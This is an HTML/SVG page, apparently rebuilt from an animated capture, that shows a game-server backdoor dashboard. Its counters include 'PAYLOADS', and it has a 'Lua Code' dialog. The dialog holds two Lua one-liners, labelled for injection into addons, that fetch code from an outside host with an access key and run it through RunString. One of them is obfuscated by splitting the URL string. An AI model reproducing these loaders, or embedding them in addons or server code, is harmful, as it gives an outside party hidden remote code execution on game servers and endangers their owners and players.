
These frames come from a looping animation (1280 px wide and 432 px high, 3.41 s). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Dashboard</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #191919; }
  svg { display: block; width: 100%; height: 100%; }
  text { font: 400 13.2px Roboto, Arial, sans-serif; fill: #fff; white-space: pre; }
  .end { text-anchor: end; }
  .mid { text-anchor: middle; }
  .num { font-size: 27px; font-weight: 500; fill: #2f80f3; }
  .label { font-size: 13.4px; fill: #a9abae; }
  .card, .dot { fill: #212428; }
  .blue { fill: #2f80f3; }
  .line { fill: none; stroke: #2f80f3; }
  .grid { fill: none; stroke: #000; stroke-opacity: .14; }
  .field { fill: #151618; stroke: #2b2e33; }
  .code { fill: #e9dcc0; }
  .item { fill: #212529; }
  #menu { filter: drop-shadow(0 4px 7px rgba(0, 0, 0, .3)); }
  #arrow path, #hand path { fill: #fff; stroke: #000; stroke-width: .9; stroke-linejoin: round; }
</style>
</head>
<body>
<svg viewBox="0 0 1280 432" preserveAspectRatio="none">
  <defs>
    <g id="brackets" fill="none">
      <path d="M-12.5-12-24.5 0-12.5 12M12.5-12 24.5 0 12.5 12" stroke-width="7.4"/>
      <path d="M6-21.5-6 21.5" stroke-width="6.4" stroke-linecap="round"/>
    </g>
    <radialGradient id="wave">
      <stop offset="0" stop-color="#fff" stop-opacity=".2"/>
      <stop offset=".4" stop-color="#fff" stop-opacity=".3"/>
      <stop offset=".6" stop-color="#fff" stop-opacity=".5"/>
      <stop offset=".7" stop-color="#fff" stop-opacity="0"/>
    </radialGradient>
    <clipPath id="linkClip"><rect x="1102" y="-5" width="164" height="60" rx="3"/></clipPath>
    <clipPath id="faceClip"><circle cx="1130" cy="22" r="14.5"/></clipPath>
    <clipPath id="codeClip"><rect x="43" y="124" width="643" height="30"/></clipPath>
  </defs>

  <rect width="1280" height="432" fill="#191919"/>
  <rect class="blue" width="1280" height="55"/>

  <!-- user link -->
  <g id="user">
    <g clip-path="url(#linkClip)">
      <rect id="glow" x="1102" width="164" height="55" fill="#fff"/>
      <circle id="ripple" cx="1150" cy="27" fill="url(#wave)"/>
    </g>
    <circle cx="1130" cy="22" r="17" fill="#a9c5ee"/>
    <g clip-path="url(#faceClip)">
      <rect x="1112" y="4" width="36" height="36" fill="#2a2323"/>
      <g id="pet">
        <ellipse cx="1131" cy="20" rx="9" ry="7" fill="#5d5350"/>
        <ellipse cx="1133" cy="27" rx="8" ry="6" fill="#a58a72"/>
        <path d="M1122 17l2-7 5 5zM1133 14l5-5 2 8z" fill="#4a403e"/>
      </g>
    </g>
    <text x="1153.5" y="26">MuFilox#5208</text>
    <path d="M1245 21.500l3 3 3-3" fill="none" stroke="#fff" stroke-width="1.5"/>
  </g>

  <!-- page heading -->
  <g fill="#fff">
    <path d="M509 83.500l9 7.700v7.800q0 1-1 1h-5.500v-6h-5v6H501q-1 0-1-1v-7.800z"/>
    <path d="M496.800 90 509 79.600 521.200 90" fill="none" stroke="#fff" stroke-width="2.500"/>
    <rect x="515.500" y="79" width="3.500" height="6"/>
  </g>
  <text class="mid" x="508.500" y="128" style="font-size:19.8px;font-weight:500">Dashboard</text>

  <g id="cards"></g>

  <!-- card icons -->
  <g id="server"></g>
  <g class="blue">
    <circle cx="562" cy="186.300" r="6"/>
    <path d="M557 193.500h10q4 0 4 4v10q0 2.500-3 2.500v10q0 2-2 2h-8q-2 0-2-2v-10q-3 0-3-2.500v-10q0-4 4-4z"/>
    <path class="line" stroke-width="4" d="M551 210.500C536 213 536 221 548 224Q562 227.500 576 224C588 221 588 213 573 210.500"/>
  </g>
  <use href="#brackets" x="950.500" y="204" stroke="#2f80f3"/>

  <!-- chart -->
  <rect class="card" x="-10" y="283" width="1272" height="160" rx="4"/>
  <rect class="line" x="467" y="340" width="38" height="12" stroke-width="3"/>
  <text x="510.500" y="348.500" style="font-size:11.6px;fill:#666">Servers</text>
  <path class="grid" d="M0 361.500H1228M0 418.500H1228M162.500 361V432M516.500 361V432M870.500 361V432M1226.500 361V432"/>
  <path class="line" stroke-width="3" d="M0 379.500 163 380.300 517 379.700 871 379.500H1226"/>
  <g id="dots"></g>

  <!-- drop-down -->
  <g id="menu">
    <rect x="1116" y="57" width="150" height="142" rx="2" fill="#fff"/>
    <text class="item" x="1133.500" y="84">Profile</text>
    <text class="item" x="1133.500" y="116">Lua Code</text>
    <text class="item" x="1133.500" y="148">Online Members</text>
    <text class="item" x="1133.500" y="180">Log Out</text>
  </g>

  <rect id="shade" width="1280" height="432" fill="#212529"/>

  <!-- dialog -->
  <g id="modal">
    <rect x="17" y="17" width="749.500" height="314" rx="4" fill="#1b1c1e"/>
    <path d="M17 71.500H766.500M17 268H766.500" stroke="#dee2e6"/>
    <use href="#brackets" transform="translate(42 44.500) scale(.36)" stroke="#fff"/>
    <text x="55.500" y="50" style="font-size:16.5px;font-weight:500">Lua Code</text>
    <g opacity=".5" style="font-weight:700">
      <text class="mid" x="745" y="51" style="font-size:19.8px">×</text>
      <text class="mid" x="745" y="50" style="font-size:19.8px;fill:#000">×</text>
    </g>
    <text x="31.500" y="101">LuaCode (to inject into addons)</text>
    <text x="31.500" y="184">Luarun (to launch the code in game)</text>
    <rect class="field" x="32.500" y="122.500" width="668" height="32" rx="3"/>
    <rect class="field" x="32.500" y="205.500" width="668" height="32" rx="3"/>
    <g clip-path="url(#codeClip)">
      <rect id="mark" x="43.500" y="131" width="643" height="15.500" fill="#fff"/>
      <text id="snippet" x="43.500" y="143">timer.Simple(1, function() http.Fetch("https://kvac.cz/f.php?key=NR5TIGAOGMtc4qLZ80nn", function(b) RunString(b) end)</text>
    </g>
    <text class="code" x="43.500" y="225">http.Fetch([[https:/]]..[[/kvac.cz/f.php?key=NR5TIGAOGMtc4qLZ80nn]],function(k)RunString(k,[[:]],!1)end)</text>
    <path id="copy" d="M697 122h51q3 0 3 3v27q0 3-3 3h-51z"/>
    <path class="blue" d="M697 205h51q3 0 3 3v27q0 3-3 3h-51z"/>
    <text class="mid" x="724" y="143">Copy</text>
    <text class="mid" x="724" y="225">Copy</text>
    <rect x="693" y="284" width="58" height="33" rx="3" fill="#6c757d"/>
    <text class="mid" x="722" y="304">Close</text>
  </g>

  <!-- pointers -->
  <g id="cursor">
    <g id="arrow"><path d="M0 0V15L3.500 11.800 5.800 17 8.200 16 6 11H10.500Z"/></g>
    <g id="hand"><path d="M-2 1.500C-2-.7 2-.7 2 1.500V7.500L8 9Q9.500 9.500 9.500 11.500L8.500 16 7.500 18V21H-1.500V19L-5 13Q-6.500 10.500-4.500 10L-2 12Z"/></g>
    <g id="beam"><path d="M-3.500-8H-1Q0-8 0-7Q0-8 1-8H3.500M0-7V7M-3.500 8H-1Q0 8 0 7Q0 8 1 8H3.500" fill="none" stroke="#fff" stroke-width="1.200"/></g>
  </g>
</svg>

<script>
const LOOP = 3410;
const $ = id => document.getElementById(id);
const set = (id, attrs) => {
  for (const k in attrs) $(id).setAttribute(k, attrs[k]);
};
const show = (id, on) => set(id, { visibility: on ? 'visible' : 'hidden' });

const cards = [[-245, '1,572', 'NUMBER OF USERS'], [137, '736', 'SERVERS'],
  [520, '314,249', 'PLAYERS'], [902.5, '44', 'PAYLOADS']];
$('cards').innerHTML = cards.map(([x, num, label]) =>
  `<rect class="card" x="${x}" y="148" width="360" height="112" rx="4"/>
   <text class="num end" x="${x + 342}" y="205">${num}</text>
   <text class="label end" x="${x + 342}" y="224.5">${label}</text>`).join('');

$('server').innerHTML = [183, 198, 213].map(y =>
  `<rect class="blue" x="156" y="${y}" width="47.500" height="12.500" rx="2.500"/>
   <circle class="dot" cx="190" cy="${y + 6.2}" r="2"/>
   <circle class="dot" cx="197" cy="${y + 6.2}" r="2"/>`).join('');

$('dots').innerHTML = [163, 517, 871, 1225.5].map(x =>
  `<circle cx="${x}" cy="380" r="2.800" fill="#21242866" stroke="#2f80f3"/>`).join('');

// The screen is refreshed at these moments and held in between.
const ticks = [0, 70, 150, 230, 300, 380, 460, 530, 610, 690, 760, 840, 920, 1000, 1070,
  1150, 1220, 1310, 1390, 1460, 1550, 1630, 1710, 1780, 1860, 1940, 2020, 2100, 2180,
  2250, 2330, 2410, 2490, 2570, 2640, 2720, 2800, 2880, 2960, 3040, 3110, 3190, 3270, 3340];

// Pointer path: time, x, y
const path = [[0, 1231, 350], [150, 1229, 335], [300, 1200, 215], [460, 1162, 95],
  [530, 1152, 62], [610, 1148, 30], [690, 1148, 32], [760, 1150, 62], [920, 1153, 95],
  [1000, 1156, 106], [1220, 1156, 106], [1310, 1100, 113], [1390, 995, 121],
  [1550, 755, 130], [1630, 662, 134], [1710, 634, 134], [1860, 660, 139],
  [1940, 700, 145], [2020, 716, 147]];

const ramp = (t, from, len) => Math.min(1, Math.max(0, (t - from) / len));
const easeOut = p => 1 - (1 - p) ** 1.7;

function pointer(t) {
  const i = path.findIndex(p => p[0] > t);
  if (i < 0) return path[path.length - 1].slice(1);
  const [t0, x0, y0] = path[i - 1], [t1, x1, y1] = path[i];
  const p = (t - t0) / (t1 - t0);
  return [x0 + (x1 - x0) * p, y0 + (y1 - y0) * p];
}

function draw(t) {
  const opened = t >= 1200, selected = t >= 2250;

  set('user', { transform: `translate(${opened ? 16 : 0} 0)` });
  set('glow', { opacity: 0.15 * ramp(t, 560, 130) * (1 - ramp(t, 1230, 150)) });
  set('ripple', {
    r: 190 * easeOut(ramp(t, 600, 310)),
    opacity: t < 600 ? 0 : 0.4 * (1 - ramp(t, 760, 260))
  });
  const sway = Math.sin(t / LOOP * Math.PI * 6);
  set('pet', { transform: `translate(${sway * 1.5} ${Math.cos(t / 300) * 0.6})` });

  set('menu', { opacity: opened ? 0 : ramp(t, 620, 120) });
  set('shade', { opacity: 0.5 * ramp(t, 1208, 150) });

  set('modal', {
    opacity: ramp(t, 1370, 150),
    transform: `translate(0 ${-50 * (1 - easeOut(ramp(t, 1370, 300)))})`
  });
  set('mark', { opacity: +selected });
  $('snippet').style.fill = selected ? '#0078d7' : '#e9dcc0';
  set('copy', { fill: t >= 1940 ? '#0d6df5' : '#2f80f3' });

  const [x, y] = pointer(t);
  const beam = t >= 1630 && t < 1940;
  const hand = t >= 1940 || (t >= 610 && t < 760) || (t >= 840 && !opened);
  set('cursor', { transform: `translate(${x} ${y})` });
  show('beam', beam);
  show('hand', hand);
  show('arrow', !beam && !hand);
}

const start = performance.now();
function frame() {
  const t = (performance.now() - start) % LOOP;
  draw(ticks.findLast(s => s <= t));
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
